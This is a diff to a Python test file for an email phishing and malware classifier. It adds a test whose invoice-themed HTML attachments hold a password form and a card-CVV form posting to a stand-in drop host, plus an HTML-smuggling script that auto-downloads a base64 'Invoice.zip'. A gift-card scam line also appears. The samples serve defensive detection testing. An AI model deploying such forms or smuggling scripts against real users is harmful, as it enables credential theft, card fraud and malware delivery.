@@ -13,9 +13,11 @@ from sabaku.model import Input
 CARDS = "Please buy four gift cards of $100 each and send me pictures of the codes. "
 
 
-def told(text: str, sender: str, subject: str = "Notice", html: str = "") -> str:
+def told(text: str, sender: str, subject: str = "Notice", html: str = "", files: list[dict[str, str]] | None = None) -> str:
     """The category of a mail with these words."""
-    body = {"html": html} if html else {"text": text}
+    body: dict[str, object] = {"html": html} if html else {"text": text}
+    if files:
+        body["files"] = files
     raw = mails.build({"base": "en", "headers": {"From": sender, "Subject": subject}, "body": body})
     return examine(Input(raw)).verdict.category
 
@@ -62,6 +64,24 @@ def test_to_confirm_ones_data_is_no_login_where_no_account_is_spoken_of() -> Non
     sender = "Rossmann <service@friends.example>"
 
     assert [told("", sender, "Rossmann", html) for html in (vague, account)] == ["phishing", "credential-phishing"]
+
+
+@pytest.mark.parametrize(
+    ("page", "category"),
+    [
+        ("<form action='https://drop.example.net/n.php'><input type='password' name='pw'></form>", "credential-phishing"),
+        ("<form action='https://drop.example.net/n.php'><input name='cvv'></form>", "card-phishing"),
+        (
+            "<script>var b=atob('UEsDBBQAAAAIAA" + "QUJD" * 120 + "');var a=document.createElement('a');"
+            "a.href=URL.createObjectURL(new Blob([b]));a.download='Invoice.zip';a.click();</script>",
+            "malware",
+        ),
+    ],
+)
+def test_an_attached_page_by_what_it_does(page: str, category: str) -> None:
+    files = [{"name": "Invoice_7712.pdf.html", "type": "text/html", "text": f"<html><body>{page}</body></html>"}]
+    text = "Dear Sir, please open the attached invoice and confirm receipt."
+    assert told(text, "Accounts Payable <ap@freshfarm.example>", "Invoice 7712", files=files) == category
 
 
 def test_what_a_hit_says_is_a_known_kind() -> None:
